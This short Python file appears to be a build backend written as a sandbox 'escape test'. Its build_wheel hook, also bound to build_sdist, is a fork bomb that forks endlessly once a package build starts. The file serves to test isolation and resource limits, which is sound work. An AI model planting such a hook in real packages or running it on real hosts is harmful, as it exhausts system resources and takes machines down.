# SPDX-License-Identifier: Apache-2.0
"""Escape test: a fork bomb. Every process forks until fork() fails."""
import os


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    while True:
        os.fork()


build_sdist = build_wheel
